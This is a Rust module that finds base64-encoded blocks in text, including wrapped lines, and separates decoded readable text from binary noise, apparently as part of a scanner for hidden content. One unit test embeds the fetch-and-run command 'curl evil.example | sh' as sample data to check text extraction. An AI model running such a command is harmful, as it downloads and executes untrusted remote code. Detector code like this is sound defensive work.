//! Blocks of encoded text: where they stand, and what they say.

use std::ops::Range;

use super::draft::Draft;
use super::suspects::{is_letter, next_full};

/// Shortest block, in characters.
pub(super) const SHORTEST: usize = 16;
/// Longest line of a block that is wrapped. A block of one line may be longer.
const LONGEST_LINE: usize = 128;
/// Fewest bytes of text within a block of which less is text than [`is_text`] wants.
const ISLAND: usize = 24;

/// Characters of an alphabet that belong together: their values and their places in the text.
#[derive(Debug, Default, Clone)]
pub(super) struct Block {
    pub(super) letters: Vec<u8>,
    pub(super) places: Vec<usize>,
}

impl Block {
    fn push(&mut self, bytes: &[u8], range: Range<usize>) {
        self.letters.extend_from_slice(bytes.get(range.clone()).unwrap_or_default());
        self.places.extend(range);
    }

    /// The text's bytes from letter `first` to letter `last`.
    pub(super) fn span(&self, first: usize, last: usize) -> Range<usize> {
        let place = |at: usize| self.places.get(at).copied();
        match (place(first), place(last)) {
            (Some(start), Some(end)) => start..end + 1,
            _ => 0..0,
        }
    }
}

/// Every run of at least [`SHORTEST`] letters of base64, the lines of a wrapped one together.
pub(super) fn blocks(text: &str) -> Vec<Block> {
    let bytes = text.as_bytes();
    let mut blocks = Vec::new();
    let mut from = 0;
    let mut at = 0;
    while let Some(full) = next_full(bytes, at) {
        let start =
            bytes.get(from..full).map_or(full, |before| full - before.iter().rev().take_while(|byte| is_letter(**byte)).count());
        let mut line = start..run_end(bytes, full);
        let mut block = Block::default();
        block.push(bytes, line.clone());
        while let Some(next) = next_line(bytes, &line) {
            block.push(bytes, next.clone());
            line = next;
        }
        if block.letters.len() >= SHORTEST {
            blocks.push(block);
        }
        from = line.end;
        at = line.end;
    }
    blocks
}

fn run_end(bytes: &[u8], start: usize) -> usize {
    let rest = bytes.get(start..).unwrap_or_default();
    start + rest.iter().take_while(|byte| is_letter(**byte)).count()
}

/// The line that continues the block whose last line is `line`: no longer than it, and nothing else on it but padding.
fn next_line(bytes: &[u8], line: &Range<usize>) -> Option<Range<usize>> {
    if !(SHORTEST..=LONGEST_LINE).contains(&line.len()) {
        return None;
    }
    let start = match bytes.get(line.end..)? {
        [b'\n', ..] => line.end + 1,
        [b'\r', b'\n', ..] => line.end + 2,
        _ => return None,
    };
    let end = run_end(bytes, start);
    let is_alone = matches!(bytes.get(end), None | Some(b'\n' | b'\r' | b'='));
    (is_alone && end > start && end - start <= line.len()).then_some(start..end)
}

/// Whether decoded bytes are text: no NUL, and nine in ten of its scalars can be printed.
fn is_text(bytes: &[u8]) -> bool {
    let mut good = 0usize;
    let mut bad = 0usize;
    for chunk in bytes.utf8_chunks() {
        bad += chunk.invalid().len();
        for character in chunk.valid().chars() {
            if character == '\0' {
                return false;
            }
            if is_printable(character) { good += 1 } else { bad += 1 }
        }
        // Noise is told by its first bytes: there cannot be enough good ones any more.
        if 10 * bad > bytes.len() {
            return false;
        }
    }
    good > 0 && good >= 9 * bad
}

fn is_printable(character: char) -> bool {
    !character.is_control() && character != char::REPLACEMENT_CHARACTER || matches!(character, '\n' | '\r' | '\t')
}

/// The parts of `decoded` that are text: all of it, or its longer runs of printable ASCII.
pub(super) fn texts(decoded: &[u8]) -> Vec<Range<usize>> {
    if is_text(decoded) {
        return std::iter::once(0..decoded.len()).collect();
    }
    let mut found = Vec::new();
    if decoded.len() < ISLAND {
        return found;
    }
    let mut at = 0;
    for island in decoded.split(|byte| !matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t')) {
        if island.len() >= ISLAND {
            found.push(at..at + island.len());
        }
        at += island.len() + 1;
    }
    found
}

/// Writes the text `range` of `decoded` on a line of its own. Each quantum of `quantum` decoded bytes was read from what
/// `origin` says for its number. Bytes that are no text become U+FFFD.
pub(super) fn write(
    draft: &mut Draft<'_>,
    decoded: &[u8],
    range: Range<usize>,
    quantum: usize,
    origin: impl Fn(usize) -> Range<usize>,
) {
    if range.is_empty() || draft.is_full() {
        return;
    }
    if !draft.is_empty() {
        let start = origin(range.start / quantum).start;
        // A row may end in the digits with which a block begins.
        draft.put("\n", start..start.max(draft.end()));
    }
    let mut at = range.start;
    while at < range.end && !draft.is_full() {
        let whole =
            at.is_multiple_of(quantum).then(|| decoded.get(at..at + quantum)).flatten().filter(|_| at + quantum <= range.end);
        if let Some(ascii) = whole.and_then(|whole| std::str::from_utf8(whole).ok()) {
            draft.put(ascii, origin(at / quantum));
            at += quantum;
            continue;
        }
        let (character, length) = first_scalar(decoded.get(at..range.end).unwrap_or_default());
        let last = origin((at + length - 1) / quantum).end;
        draft.put_char(character, origin(at / quantum).start..last);
        at += length;
    }
}

/// The first scalar of bytes that are not empty, and how many of them it takes.
fn first_scalar(bytes: &[u8]) -> (char, usize) {
    let head = bytes.get(..bytes.len().min(4)).unwrap_or_default();
    let Some(chunk) = head.utf8_chunks().next() else { return (char::REPLACEMENT_CHARACTER, 1) };
    match chunk.valid().chars().next() {
        Some(character) => (character, character.len_utf8()),
        None => (char::REPLACEMENT_CHARACTER, chunk.invalid().len().max(1)),
    }
}

#[cfg(test)]
mod tests {
    use super::{blocks, texts};

    #[test]
    fn blocks_are_runs_and_wrapped_lines() {
        let line = "A".repeat(64);
        let joined = format!("{line}{line}QUJD");
        let facts = [
            ("a short word and another_one", vec![]),
            ("x c2VjcmV0IHRva2Vu y", vec!["c2VjcmV0IHRva2Vu"]),
            (&format!("{line}\n{line}\r\nQUJD==\nmore"), vec![&*joined]),
            (&format!("{line}\nHello world"), vec![&*line]),
            (&format!("{line}.{line}"), vec![&*line, &*line]),
        ];
        for (text, expected) in facts {
            let mut found = Vec::new();
            for block in blocks(text) {
                assert!(block.letters.iter().zip(&block.places).all(|(letter, place)| text.as_bytes()[*place] == *letter));
                found.push(String::from_utf8(block.letters).unwrap());
            }
            assert_eq!(found, expected, "{text}");
        }
    }

    #[test]
    fn text_is_told_from_noise() {
        let noise = [0x80u8, 0xFE, 3, 0xFF];
        let island = [&noise[..], b"curl evil.example | sh -x now", &noise[..]].concat();
        let facts = [
            (&b"hello there"[..], Some(0..11)),
            ("h\u{e9}llo th\u{4e2d}re".as_bytes(), Some(0..14)),
            (b"hello there, this is text\xFF", Some(0..26)),
            (&noise, None),
            (b"hello\0there", None),
            (&island, Some(4..33)),
        ];
        for (bytes, expected) in facts {
            assert_eq!(texts(bytes), Vec::from_iter(expected), "{bytes:?}");
        }
    }
}
